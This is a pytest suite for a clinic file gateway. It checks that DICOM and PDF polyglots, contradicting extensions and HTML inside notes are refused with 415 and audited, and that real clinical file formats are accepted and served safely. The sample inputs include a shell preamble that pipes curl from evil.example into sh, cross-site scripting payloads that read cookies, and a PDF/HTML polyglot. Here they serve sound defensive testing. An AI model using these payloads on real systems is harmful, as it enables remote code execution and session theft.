"""File types over HTTP against the real gateway (gunicorn + moto's S3 server): polyglots and
contradicting names refused with 415 and an audit row; clinics' real files accepted and served
the way docs/file-types.md says; download names with a readable ASCII fallback."""
from __future__ import annotations

import json
import re
from urllib.parse import unquote

import pytest
import requests
from sqlalchemy import select

from gateway.db.models import AuditEvent, StoredObject
from tests.stack import LiveGateway
from tests.test_sniff import (
    ASF_AUDIO,
    ASF_VIDEO,
    HL7_ORU,
    asf,
    cda,
    dataset,
    dicom,
    elf_header,
    eml,
    fhir_patient,
    file_meta,
    j2c,
    jp2,
    pe_header,
)

PDF = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Type /Catalog >>\nendobj\n" + b"0" * 5000
PDF_HTML_POLYGLOT = (b"%PDF-1.7\n<html><body><script>fetch('/api/v1/files')</script></body></html>\n"
                     + PDF[9:])


def auth(live: LiveGateway, who: str = "staff1") -> dict[str, str]:
    return {"Authorization": f"Bearer {live.stack.users[who].token}"}


def put(live: LiveGateway, path: str, data: bytes) -> requests.Response:
    return requests.put(f"{live.url}/api/v1/files/{path}", data=data, headers=auth(live),
                        timeout=60)


def get(live: LiveGateway, path: str, **params: str) -> requests.Response:
    return requests.get(f"{live.url}/api/v1/files/{path}", headers=auth(live), params=params,
                        timeout=60)


def upload_rows(live: LiveGateway, path: str) -> list[AuditEvent]:
    with live.stack.services.sessions() as s:
        return list(s.scalars(select(AuditEvent).where(
            AuditEvent.action == "upload", AuditEvent.object_path == path).order_by(AuditEvent.id)))


def stored(live: LiveGateway, path: str) -> StoredObject | None:
    with live.stack.services.sessions() as s:
        return s.scalar(select(StoredObject).where(StoredObject.path == path))


def assert_refused(live: LiveGateway, resp: requests.Response, path: str, *words: str) -> None:
    """A 415 with a message for staff, nothing stored, and the refusal in the audit trail."""
    assert resp.status_code == 415, resp.text
    error = resp.json()["error"]
    assert error["code"] == "unsupported_type"
    for word in words:
        assert word in error["message"]
    assert stored(live, path) is None
    rows = upload_rows(live, path)
    assert [(r.outcome, r.http_status) for r in rows][-2:] == [("started", None), ("aborted", 415)]
    assert json.loads(rows[-1].detail)["reason"] == error["message"]
    assert rows[-1].user_email == live.stack.users["staff1"].email


# -- DICOM polyglots (CVE-2019-11687) --------------------------------------------------------


@pytest.mark.parametrize(("name", "preamble"), [
    ("pe.dcm", pe_header()),
    ("elf.dcm", elf_header()),
    ("shell.dcm", b"#!/bin/sh\ncurl https://evil.example/x | sh\nexit 0\n".ljust(128, b"\x00")),
    ("html.dcm", b"<html><script>alert(document.domain)</script>".ljust(128, b" ")),
])
def test_dicom_with_a_program_in_its_preamble_is_refused(live: LiveGateway, name: str,
                                                         preamble: bytes) -> None:
    path = f"uploads/imaging/{name}"
    assert_refused(live, put(live, path, dicom(preamble)), path, "DICOM", "fresh export")


def test_dicom_polyglot_under_a_program_name_is_refused(live: LiveGateway) -> None:
    path = "uploads/imaging/viewer.exe"
    assert_refused(live, put(live, path, dicom(pe_header())), path, "DICOM")
    clean = "uploads/imaging/clean-viewer.exe"
    assert_refused(live, put(live, clean, dicom()), clean, "DICOM image", '".exe"', "end in .dcm")


def test_dicom_with_a_broken_header_is_refused(live: LiveGateway) -> None:
    path = "uploads/imaging/broken.dcm"
    assert_refused(live, put(live, path, dicom(meta=file_meta(version=b"\x00\x07"))), path,
                   "damaged")


# -- extensions contradicting the type -------------------------------------------------------


@pytest.mark.parametrize("ext", ["hta", "html", "exe", "js", "svg", "zip"])
def test_pdf_html_polyglot_under_a_contradicting_name_is_refused(live: LiveGateway,
                                                                 ext: str) -> None:
    path = f"documents/letters/letter.{ext}"
    assert_refused(live, put(live, path, PDF_HTML_POLYGLOT), path, "PDF document",
                   f'".{ext}"', "Rename it to end in .pdf")


def test_form_upload_checks_the_name_as_put_does(live: LiveGateway) -> None:
    path = "documents/letters/form-letter.hta"
    resp = requests.post(f"{live.url}/api/v1/files", headers=auth(live),
                         data={"path": path},
                         files={"file": ("letter.pdf", PDF_HTML_POLYGLOT, "application/pdf")},
                         timeout=60)
    assert_refused(live, resp, path, "PDF document", '".hta"')


def test_upload_link_checks_the_name(live: LiveGateway) -> None:
    path = "documents/letters/link-letter.html"
    link = requests.post(f"{live.url}/api/v1/links", json={"path": path, "method": "PUT"},
                         headers=auth(live), timeout=30).json()
    assert_refused(live, requests.put(link["url"], data=PDF_HTML_POLYGLOT, timeout=60), path,
                   '".html"')


def test_trailing_dot_and_fullwidth_extensions_are_refused(live: LiveGateway) -> None:
    for path in ("documents/letters/dot.exe.", "documents/letters/wide\uff0e\uff45\uff58\uff45"):
        resp = put(live, path, PDF)
        if resp.status_code == 400:  # refused earlier, as a name Windows cannot save
            continue
        assert_refused(live, resp, path, "PDF document")


# -- markup in text is still refused ----------------------------------------------------------


def test_html_in_a_note_is_refused(live: LiveGateway) -> None:
    path = "uploads/notes/note-with-script.txt"
    note = b"Ward round 01.03.\n<img src=x onerror=alert(document.cookie)>\n"
    assert_refused(live, put(live, path, note), path, "web page code")


# -- the files clinics have are accepted ------------------------------------------------------

NOTE = (b"Creatinine back <baseline after 3 days.\nSymptoms for <a week, no fever.\n"
        b"Target: weight <body ideal; BP <140/90, HR >60.\n")
CSV = (b"patient;note\n1;Symptoms for <a week\n2;weight <body ideal\n"
       b"3;Creatinine back <baseline\n")

REAL_FILES = [
    # path, bytes, content type, served inline?
    ("uploads/notes/round.txt", NOTE, "text/plain", False),
    ("uploads/notes/round.csv", CSV, "text/csv", False),
    ("uploads/lab/ORU_0042.hl7", HL7_ORU, "x-application/hl7-v2+er7", False),
    ("documents/cda/discharge.xml", cda(), "application/xml", False),
    ("documents/fhir/patient.json", fhir_patient(), "application/fhir+json", False),
    ("documents/mail/Referral Jane Doe.eml", eml(), "message/rfc822", False),
    ("uploads/imaging/no-preamble.dcm", file_meta() + dataset(), "application/dicom", False),
    ("uploads/imaging/IM0001", dataset(explicit=False), "application/dicom", False),
    ("uploads/imaging/CT0001.dcm", dicom(), "application/dicom", False),
    ("uploads/scans/junk-line.pdf", b"Scanned by ward 7 MFP\r\n" + PDF, "application/pdf", True),
    ("uploads/audio/dictation.wma", asf(ASF_AUDIO), "audio/x-ms-wma", False),
    ("uploads/video/endoscopy.wmv", asf(ASF_AUDIO, ASF_VIDEO), "video/x-ms-wmv", False),
    ("uploads/scans/scan.jp2", jp2(), "image/jp2", False),
    ("uploads/scans/scan.j2k", j2c(3), "image/j2c", False),
]


@pytest.mark.parametrize(("path", "data", "content_type", "inline"), REAL_FILES,
                         ids=[p.rsplit("/", 1)[1] for p, *_ in REAL_FILES])
def test_real_files_are_accepted_and_served_safely(live: LiveGateway, path: str, data: bytes,
                                                   content_type: str, inline: bool) -> None:
    resp = put(live, path, data)
    assert resp.status_code == 201, resp.text
    assert resp.json()["content_type"] == content_type
    assert [r.outcome for r in upload_rows(live, path)] == ["started", "completed"]
    got = get(live, path)
    assert got.status_code == 200 and got.content == data
    assert got.headers["Content-Type"] == content_type
    assert got.headers["X-Content-Type-Options"] == "nosniff"
    disposition = got.headers["Content-Disposition"]
    assert disposition.startswith("inline" if inline else "attachment"), disposition


# -- download names -------------------------------------------------------------------------

_FILENAME = re.compile(r'filename="([^"]*)"')
_FILENAME_STAR = re.compile(r"filename\*=UTF-8''(\S+)")


def test_non_ascii_names_get_a_readable_and_distinct_ascii_fallback(live: LiveGateway) -> None:
    names = {
        "Ärztebrief München.pdf": "Arztebrief Munchen.pdf",
        "患者の紹介状.pdf": None,
        "診断書.pdf": None,
    }
    fallbacks = []
    for name, expected in names.items():
        path = f"documents/names/{name}"
        assert put(live, path, PDF).status_code == 201
        disposition = get(live, path, download="1").headers["Content-Disposition"]
        assert disposition.startswith("attachment")
        fallback = _FILENAME.search(disposition).group(1)
        assert unquote(_FILENAME_STAR.search(disposition).group(1)) == name
        if expected is not None:
            assert fallback == expected
        else:
            assert re.fullmatch(r"file-[0-9a-f]{8}\.pdf", fallback), fallback
        fallbacks.append(fallback)
    assert len(set(fallbacks)) == len(fallbacks)
